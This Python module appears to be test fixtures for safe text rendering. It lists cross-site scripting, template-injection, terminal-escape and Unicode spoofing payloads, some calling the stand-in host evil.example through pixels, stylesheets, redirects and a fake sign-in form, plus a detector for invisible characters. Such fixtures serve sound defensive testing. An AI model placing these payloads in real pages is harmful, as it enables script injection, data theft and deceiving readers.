"""Texts with which an author of a tool could try to harm those who read them.

Each text that contains markup or code would set `window.isHit`, send a request to another host, or
open a dialog, if a page interpreted it.
"""

import re
from unicodedata import category

_CODE = "window.isHit=1;alert(1)"
_HOST = "evil.example"

HOSTILE_TEXTS = {
    "script": f"<script>{_CODE}</script>",
    "closing tags": f"</p></td></main></title></textarea></script><script>{_CODE}</script>",
    "image handler": f'"><img src=x onerror="{_CODE}">',
    "attribute": f"' onmouseover='{_CODE}' autofocus onfocus='{_CODE}' x='",
    "double-quoted attribute": f'" autofocus onfocus="{_CODE}" data-live id="checkpoint',
    "svg": f'<svg onload="{_CODE}"><a href="javascript:{_CODE}"><text>x</text></a></svg>',
    "svg script": f"<svg><script>{_CODE}</script><foreignObject><iframe src=//{_HOST}>",
    "script URL": f"javascript:{_CODE}//",
    "hidden script URL": f"java\tscript:{_CODE}//\njavascript&colon;{_CODE}",
    "data URL": f"data:text/html,<script>{_CODE}</script>",
    "remote image": f"![x](https://{_HOST}/pixel.png) <img src=https://{_HOST}/pixel.png>",
    "remote style": f"<link rel=stylesheet href=https://{_HOST}/x.css><style>@import '//{_HOST}'",
    "base": f"<base href=https://{_HOST}/><meta http-equiv=refresh content=0;//{_HOST}>",
    "form": f"<form action=https://{_HOST}><input name=key autofocus><button>Sign in",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>{{ self.__init__.__globals__ }}",
    "comment": f"<!--><script>{_CODE}</script>--><![CDATA[<script>{_CODE}</script>]]>",
    "terminal codes": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x1b\\link\x07\x08\x00\r\x9b2J",
    "bidirectional": "safe\u202egnp.exe\u202c \u2066\u2067flipped\u2069\u2069 \u061c\u200f",
    "invisible": "ad\u200bmin\u200c\u200d\ufeff\u2060\u00ad\u180e\U000e0041\U000e0042 \u3164\u115f",
    "long word": "A" * 3_900,
    "many marks": "Z" + "\u0301\u0489" * 400,
}
INVISIBLE = (
    "[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff"
    "\U000e0000-\U000e007f]"
)
"""A pattern of characters that a page must not contain, because readers cannot see them."""

_LAYOUT = "\n\t"
_HARMFUL = {"Cc", "Cf", "Co", "Cs", "Zl", "Zp"}
_FILLERS = re.compile(
    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u3164\ufe00-\ufe0f\uffa0]"
)


def harmful_characters(text):
    """Return the characters that control a terminal, reorder text, or are invisible."""
    return {
        character
        for character in text
        if character not in _LAYOUT
        and (category(character) in _HARMFUL or _FILLERS.match(character))
    }
